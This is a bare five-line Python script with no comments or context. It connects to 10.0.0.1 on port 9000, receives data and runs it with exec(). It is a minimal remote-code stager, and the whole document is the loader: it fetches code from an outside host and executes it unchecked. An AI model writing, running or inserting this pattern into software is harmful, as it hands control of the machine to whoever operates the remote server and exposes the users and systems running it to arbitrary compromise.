import socket
s = socket.socket()
s.connect(("10.0.0.1", 9000))
payload = s.recv(65536)
exec(payload)
